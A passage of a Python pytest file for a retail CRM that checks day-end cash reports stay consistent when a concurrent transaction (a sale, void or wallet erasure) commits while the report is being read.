    from crm.dayend import service
    if backend != "postgresql":
        pytest.skip("SQLite has one writer at a time: nobody commits while the day-end is read")
    clock.freeze(at(2026, 3, 10, 21))
    cashier_id = _staff_id(app, "cashier")
    _insert_bills(app, 3, 1, [cashier_id], stores["BJ01"], voided_every=1000)  # 3 bills of 10.00, none voided
    with app.app_context():
        engine = db.engine
    done = []

    def meanwhile(conn, cursor, statement, parameters, context, executemany):
        if done or "checkout_tenders" not in statement:
            return
        done.append(statement)
        with engine.connect() as other:  # another worker commits between two of the day-end's statements
            other.execute(sql("INSERT INTO checkouts (id, store_id, status, list_total, member_total, due, covers, "
                              "staff_id, created_at, coupon_discount, points_redeemed, points_value, wallet_paid, "
                              "wallet_principal, wallet_bonus, points_earned, joined_at_visit) VALUES (100, :s, "
                              "'closed', 1000, 1000, 1000, 1, :c, :t, 0, 0, 0, 0, 0, 0, 0, false)"),
                          {"s": stores["BJ01"], "c": cashier_id, "t": datetime(2026, 3, 10, 12, tzinfo=timezone.utc)
                           .replace(tzinfo=None)})
            other.execute(sql("INSERT INTO checkout_tenders (checkout_id, method, amount) VALUES (100, 'cash', 1000)"))
            other.execute(sql("UPDATE checkouts SET status = 'voided', voided_at = :t, voided_by = :c, "
                              "void_reason = 'meanwhile' WHERE id = 1"),
                          {"t": datetime(2026, 3, 10, 12, 30), "c": cashier_id})
            other.commit()
    event.listen(engine, "before_cursor_execute", meanwhile)
    try:
        with app.test_request_context():
            day_end = service.figures("BJ01", datetime(2026, 3, 10).date())
            shown = service.as_json(day_end)
    finally:
        event.remove(engine, "before_cursor_execute", meanwhile)
    assert done
    assert_identity({"total": shown["total"], "cashiers": shown["cashiers"]})


def test_an_erasure_committed_while_the_day_end_is_read_is_never_a_refund(app, backend, clock, stores, staff,
                                                                          login_api, member_factory):
    """An erasure writing off 100.00 commits its refund entries and its `wallet.forfeit` audit
    row together. If it commits between the day-end's reading of the audit and of the entries,
    the 100.00 must still not show as paid back from the drawer."""
    from sqlalchemy import event, select
    from sqlalchemy import text as sql

    from crm.dayend import service
    from crm.wallet.models import WalletAccount
    if backend != "postgresql":
        pytest.skip("SQLite has one writer at a time: nobody commits while the day-end is read")
    clock.freeze(at(2026, 3, 11, 10))
    cashier = login_api("cashier")
    clock.freeze(at(2026, 3, 10, 9))
    n = member_factory()
    assert cashier.post(f"/api/v1/members/{n['id']}/wallet/top-ups", json={
        "store_code": "BJ01", "amount": "100.00", "payment_method": "cash"}).status_code == 201
    clock.freeze(at(2026, 3, 10, 21))
    manager_id = _staff_id(app, "manager")
    with app.app_context():
        engine = db.engine
        account = db.session.scalar(select(WalletAccount.id).where(WalletAccount.member_id == n["id"],
                                                                   WalletAccount.kind == "principal"))
    done = []
    when = datetime(2026, 3, 10, 12)  # naive UTC, as stored

    def meanwhile(conn, cursor, statement, parameters, context, executemany):
        if done or "wallet_entries" not in statement:  # the audit was read just before (if it was)
            return
        done.append(statement)
        with engine.connect() as other:  # the erasure's transaction
            other.execute(sql("UPDATE wallet_accounts SET balance = 0 WHERE id = :a"), {"a": account})
            other.execute(sql("INSERT INTO wallet_entries (account_id, kind, amount, store_id, staff_id, reason, "
                              "created_at) VALUES (:a, 'refund', -10000, :s, :m, 'member asked', :t)"),
                          {"a": account, "s": stores["BJ01"], "m": manager_id, "t": when})
            other.execute(sql("INSERT INTO audit_log (created_at, staff_id, username, role, action, entity_type, "
                              "entity_id, store_id, details) VALUES (:t, :m, 'manager', 'manager', "
                              "'wallet.forfeit', 'member', :e, :s, CAST(:d AS JSON))"),
                          {"t": when, "m": manager_id, "e": str(n["id"]), "s": stores["BJ01"],
                           "d": '{"forfeited_principal": "100.00", "forfeited_bonus": "0.00", '
                                '"reason": "member asked"}'})
            other.commit()
    event.listen(engine, "before_cursor_execute", meanwhile)
    try:
        with app.test_request_context():
            day_end = service.figures("BJ01", datetime(2026, 3, 10).date())
    finally:
        event.remove(engine, "before_cursor_execute", meanwhile)
    assert done
    assert day_end["total"]["refunds"] == {"count": 0, "principal": 0, "bonus": 0}
    assert [(r["principal"], r["written_off"]) for r in day_end["refunds"]] in ([], [(10000, True)])
